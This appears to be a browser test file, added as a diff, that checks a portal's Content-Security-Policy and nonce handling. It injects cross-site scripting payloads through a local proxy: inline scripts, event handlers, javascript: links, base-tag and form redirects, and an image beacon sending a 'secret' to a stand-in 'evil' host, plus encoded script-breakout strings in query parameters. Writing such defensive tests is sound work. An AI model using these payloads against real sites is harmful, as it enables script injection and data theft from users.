@@ -1,0 +1,373 @@
+import { once } from 'node:events'
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { CANARIES, carelessPage } from '#test/browser/canaries.ts'
+import { answer, draftOf, post } from '#test/browser/draft.ts'
+import { go, openBrowser, signInAs, signInByMail } from '#test/browser/visitor.ts'
+import { APPLICATION, DOCUMENT_TYPE, INSTITUTION } from '#test/builders/dossier.ts'
+
+const { origin } = inject('portal')
+
+let browser: Browser
+/** Another origin, without any policy: it takes what is sent to it, and shows what careless pages do. */
+let elsewhere: Server
+let evil: string
+const taken: string[] = []
+/** Stands before the portal and writes an attacker's text into its pages, the policy kept or taken away. */
+let injector: Server
+let careless: string
+let injected = { html: '', policy: true }
+
+async function injectInto(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  const answered = await fetch(origin + request.url)
+  const headers = new Headers(answered.headers)
+  for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
+    headers.delete(name)
+  if (!injected.policy) headers.delete('content-security-policy')
+  response.writeHead(answered.status, Object.fromEntries(headers))
+  const isPage = headers.get('content-type')?.startsWith('text/html')
+  const body = Buffer.from(await answered.arrayBuffer())
+  response.end(isPage ? body.toString().replace('</head>', `</head><body>${injected.html}`) : body)
+}
+
+async function listening(server: Server): Promise<number> {
+  server.listen(0)
+  await once(server, 'listening')
+  return (server.address() as AddressInfo).port
+}
+
+beforeAll(async () => {
+  browser = await openBrowser()
+  elsewhere = createServer((request, response) => {
+    const [, place, number] = (request.url ?? '').split('/')
+    taken.push(request.url ?? '')
+    const canary = place === 'careless' ? CANARIES[Number(number) - 1] : undefined
+    const type = request.url?.endsWith('.js') ? 'text/javascript' : 'text/html'
+    response.writeHead(canary || type !== 'text/html' ? 200 : 404, {
+      'Content-Type': type,
+      'Access-Control-Allow-Origin': '*',
+    })
+    response.end(canary ? carelessPage(canary) : 'canary("elsewhere")')
+  })
+  evil = `http://127.0.0.1:${await listening(elsewhere)}`
+  injector = createServer((request, response) => void injectInto(request, response))
+  careless = `http://localhost:${await listening(injector)}`
+})
+afterAll(async () => {
+  await browser.close()
+  elsewhere.close()
+  injector.close()
+})
+
+type Watched = { page: Page; ran: string[]; violations: string[]; dialogs: string[] }
+
+/** A page that tells what ran, what the policy stopped, and what was shown to the person. */
+async function watchedPage(): Promise<Watched> {
+  const context = await browser.newContext({ locale: 'en-GB' })
+  const watched = { ran: [] as string[], violations: [] as string[], dialogs: [] as string[] }
+  await context.exposeBinding('canary', (_, name: unknown) => void watched.ran.push(String(name)))
+  await context.exposeBinding('violated', (_, what: string) => void watched.violations.push(what))
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      const violated = Reflect.get(window, 'violated') as (what: string) => void
+      violated(effectiveDirective)
+    })
+  })
+  const page = await context.newPage()
+  page.setDefaultTimeout(20_000)
+  page.on('dialog', (dialog) => {
+    watched.dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  return { page, ...watched }
+}
+
+type Injection = {
+  /** As an attacker's text would stand in the page; parsed with it, before the portal's own scripts run. */
+  html: () => string
+  /** What the person, or a script of the page, then does. */
+  act?: (page: Page) => Promise<unknown>
+  /** Whether it worked. */
+  worked: (watched: Watched) => Promise<boolean>
+  violates: string
+}
+
+const ranAs =
+  (name: string) =>
+  async ({ ran }: Watched) =>
+    ran.includes(name)
+const clickIt = (page: Page) => page.evaluate(() => document.querySelector<HTMLElement>('#injected')?.click())
+const sentTo = (path: string) => async (): Promise<boolean> => taken.includes(path)
+
+/** In the page's own time: what the browser's protocol evaluates itself is excused from the policy. */
+const runText = (page: Page, by: 'eval' | 'Function') =>
+  page.evaluate(
+    (name) =>
+      new Promise<void>((resolve) => {
+        setTimeout(() => {
+          try {
+            const run = Reflect.get(window, name) as (code: string) => unknown
+            const made = run(`canary("${name}")`)
+            if (typeof made === 'function') made()
+          } finally {
+            resolve()
+          }
+        })
+      }),
+    by,
+  )
+
+const INJECTIONS: Readonly<Record<string, Injection>> = {
+  'an inline script': {
+    html: () => '<script>canary("inline")</script>',
+    worked: ranAs('inline'),
+    violates: 'script-src-elem',
+  },
+  'an event handler': {
+    html: () => '<img src="data:," onerror="canary(\'handler\')">',
+    worked: ranAs('handler'),
+    violates: 'script-src-attr',
+  },
+  'a script from elsewhere': {
+    html: () => `<script src="${evil}/evil.js"></script>`,
+    worked: ranAs('elsewhere'),
+    violates: 'script-src-elem',
+  },
+  'a javascript: link': {
+    html: () => `<a id="injected" href="javascript:canary('link')">x</a>`,
+    act: clickIt,
+    worked: ranAs('link'),
+    violates: 'script-src-elem',
+  },
+  'a base for every address': {
+    html: () => `<base href="${evil}/base/">`,
+    worked: ({ page }) => page.evaluate((there) => document.baseURI.startsWith(there), evil),
+    violates: 'base-uri',
+  },
+  'a form that leads elsewhere': {
+    html: () => `<form action="${evil}/form" method="post"><button id="injected">x</button></form>`,
+    act: clickIt,
+    worked: sentTo('/form'),
+    violates: 'form-action',
+  },
+  eval: {
+    html: () => '',
+    act: (page) => runText(page, 'eval'),
+    worked: ranAs('eval'),
+    violates: 'script-src',
+  },
+  'new Function': {
+    html: () => '',
+    act: (page) => runText(page, 'Function'),
+    worked: ranAs('Function'),
+    violates: 'script-src',
+  },
+  'a frame': {
+    html: () => `<iframe src="${evil}/frame"></iframe>`,
+    worked: sentTo('/frame'),
+    violates: 'frame-src',
+  },
+  'a picture from elsewhere': {
+    html: () => `<img src="${evil}/picture?secret">`,
+    worked: sentTo('/picture?secret'),
+    violates: 'img-src',
+  },
+}
+
+const PAGES = { 'an ordinary page': '/sign-in', 'a key page': '/csr' } as const
+
+async function tryOut(injection: Injection, path: string, policy: boolean) {
+  taken.length = 0
+  const watched = await watchedPage()
+  injected = { html: injection.html(), policy }
+  // The policy is tried, not what React makes of a page that is not as it wrote it.
+  await watched.page.route('**/assets/*.js', (route) => route.abort())
+  await watched.page.goto(careless + path)
+  await injection.act?.(watched.page)
+  const isDone = async () => (await injection.worked(watched)) || watched.violations.length > 0
+  await expect.poll(isDone, { timeout: 10_000 }).toBe(true)
+  const worked = await injection.worked(watched)
+  await watched.page.context().close()
+  return { worked, violations: [...new Set(watched.violations)] }
+}
+
+describe('an injection', () => {
+  const cases = Object.entries(PAGES).flatMap(([where, path]) =>
+    Object.entries(INJECTIONS).map(([what, injection]) => ({ what, where, path, injection })),
+  )
+
+  it.each(cases)('of $what in $where is stopped by its policy', async ({ path, injection }) => {
+    const { worked, violations } = await tryOut(injection, path, true)
+    expect({ worked, violations }).toEqual({ worked: false, violations: [injection.violates] })
+  })
+
+  it.each(cases)('of $what in $where would work without it', async ({ path, injection }) => {
+    expect((await tryOut(injection, path, false)).worked).toBe(true)
+  })
+})
+
+describe('the policy of key pages', () => {
+  const asks = async (path: string) => {
+    const watched = await watchedPage()
+    await watched.page.goto(`${origin}${path}`)
+    const asked = watched.page.evaluate(() =>
+      fetch('/health/live').then(
+        () => 'answered',
+        () => 'stopped',
+      ),
+    )
+    const answered = await asked
+    await watched.page.context().close()
+    return answered
+  }
+
+  it('lets nothing be fetched, not even of our own; that of others does', async () => {
+    expect([await asks('/csr'), await asks('/sign-in')]).toEqual(['stopped', 'answered'])
+  })
+})
+
+describe('the nonce', () => {
+  const ANSWERS = 100
+  const nonceOf = (headers: Headers) =>
+    /'nonce-([\w-]{24})'/.exec(headers.get('Content-Security-Policy') ?? '')?.[1] ?? ''
+
+  it(`is another in each of ${ANSWERS} answers`, async () => {
+    const nonces = new Set<string>()
+    for (let turn = 0; turn < ANSWERS; turn += 1) {
+      const { headers } = await fetch(`${origin}${turn % 2 ? '/csr' : '/sign-in'}`)
+      nonces.add(nonceOf(headers))
+    }
+    nonces.delete('')
+    expect(nonces.size).toBe(ANSWERS)
+  })
+
+  it.each(['/', '/sign-in', '/csr', '/dossiers/new', '/nowhere'])(
+    'stands in %s in its attributes alone, never among the data of the page',
+    async (path) => {
+      for (const address of [path, `${path === '/' ? '/_root' : path}.data`]) {
+        const answered = await fetch(origin + address)
+        const nonce = nonceOf(answered.headers)
+        expect(nonce).not.toBe('')
+        const attributes = `nonce="${nonce}"`
+        const text = await answered.text()
+        if (!address.endsWith('.data')) expect(text).toContain(attributes)
+        expect(text.replaceAll(attributes, '')).not.toContain(nonce)
+      }
+    },
+  )
+
+  it('is what the page’s own scripts run by', async () => {
+    const hydrated = async (change: (body: string) => string) => {
+      const { page } = await watchedPage()
+      await page.route(`${origin}/sign-in`, async (route) => {
+        const answered = await route.fetch()
+        await route.fulfill({ response: answered, body: change(await answered.text()) })
+      })
+      await page.goto(`${origin}/sign-in`, { waitUntil: 'networkidle' })
+      const found = await page.evaluate(() => Reflect.has(window, '__remixContext'))
+      await page.context().close()
+      return found
+    }
+    expect(await hydrated((body) => body)).toBe(true)
+    expect(await hydrated((body) => body.replaceAll(/ nonce="[^"]*"/g, ''))).toBe(false)
+  })
+})
+
+describe('forty hostile texts', () => {
+  const NUMBER = '1900001356'
+  const texts = () => CANARIES.map(({ text }) => text)
+
+  it('run in a page that forgets to encode them, each of the forty', async () => {
+    expect(CANARIES).toHaveLength(40)
+    const { page, ran } = await watchedPage()
+    for (const { number, text } of CANARIES) {
+      await page.goto(`${evil}/careless/${number}`)
+      await expect.poll(() => ran, { timeout: 5000, message: text }).toContain(String(number))
+    }
+    await page.context().close()
+  })
+
+  /** Fills every free text of a dossier with them, in order, and sends it. */
+  async function submitWith(page: Page): Promise<string> {
+    const left = texts()
+    const take = (...names: string[]) => Object.fromEntries(names.map((name) => [name, left.shift() ?? 'x']))
+    const home = await draftOf(page, { enterpriseNumber: NUMBER, applicationId: 'x:y:z', filled: 'nothing' })
+    await answer(page, `${home}/institution`, {
+      ...INSTITUTION,
+      enterpriseNumber: NUMBER,
+      ...take('nameFr', 'nameNl', 'nameDe', 'certificateName', 'street', 'city'),
+      ...take('longNameFr', 'longNameNl', 'longNameDe'),
+    })
+    await answer(page, `${home}/application`, {
+      ...APPLICATION,
+      applicationId: 'policy:canaries',
+      ...take('nameFr', 'nameNl', 'nameDe', 'description'),
+    })
+    while (left.length > 0) {
+      const type = (await post(page, `${home}/document-types`, { add: 'empty' })) ?? ''
+      const names = take('nameFr', 'nameNl', 'nameDe', 'description', 'peaks')
+      await answer(page, type, { ...DOCUMENT_TYPE, ...names })
+    }
+    for (const environment of ['acceptance', 'production'])
+      await post(page, `${home}/certificate/${environment}`, { intent: 'save', choice: 'later' })
+    return home
+  }
+
+  /** Opens it, follows nothing, lets everything run that would; answers how many of the texts it shows. */
+  async function shownAt({ page }: Watched, path: string): Promise<number> {
+    await page.goto(`${origin}${path}`, { waitUntil: 'networkidle' })
+    await page.locator('details').evaluateAll((folds) => {
+      for (const fold of folds) fold.setAttribute('open', '')
+    })
+    const seen = await page.evaluate(() => {
+      const values = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
+        ({ value }) => value,
+      )
+      return [document.body.textContent, ...values].join('\n')
+    })
+    return texts().filter((text) => seen.includes(text)).length
+  }
+
+  it('show as texts, and do nothing, in the draft, its status, the office and the mails', {
+    timeout: 240_000,
+  }, async () => {
+    const partner = await watchedPage()
+    await signInByMail(partner.page, 'policy@people.example', 'en')
+    const home = await submitWith(partner.page)
+    const types = await partner.page.goto(`${origin}${home}/document-types`)
+    expect(types?.status()).toBe(200)
+    const typePages = await partner.page
+      .locator('main a')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
+    const shown: Record<string, number> = {}
+    const steps = typePages.filter((path) => /document-types\/[0-9a-f-]{36}$/.test(path)).slice(0, 7)
+    for (const path of [
+      ...steps,
+      `${home}/institution`,
+      `${home}/application`,
+      `${home}/review`,
+      '/dossiers',
+    ])
+      shown[path.replace(home, '')] = await shownAt(partner, path)
+    await partner.page.goto(`${origin}${home}/review`)
+    await go(partner.page, new RegExp(`${home}\\?confirmed`))
+    shown.status = await shownAt(partner, home)
+    const officer = await watchedPage()
+    await signInAs(officer.page, 'Sofie Claes')
+    const hostile = encodeURIComponent('"><script>canary(0)</script>')
+    shown.office = await shownAt(officer, `/office${home}`)
+    shown.queue = await shownAt(officer, '/office')
+    await shownAt(officer, `/office?q=${hostile}`)
+    await shownAt(officer, `/${hostile}?lang=${hostile}`)
+    await officer.page.goto(`${origin}/dev/mailbox`)
+    await officer.page.locator('main tr', { hasText: 'policy@' }).first().getByRole('link').click()
+    await officer.page.waitForURL(/mailbox\/./)
+    shown.mail = await shownAt(officer, new URL(officer.page.url()).pathname)
+    // Every text was shown somewhere, in the partner's pages and in the office; else their silence proves little.
+    expect(shown).toMatchObject({ '/review': 40, office: 40 })
+    for (const { ran, dialogs, violations } of [partner, officer])
+      expect({ ran, dialogs, violations }).toEqual({ ran: [], dialogs: [], violations: [] })
+  })
+})
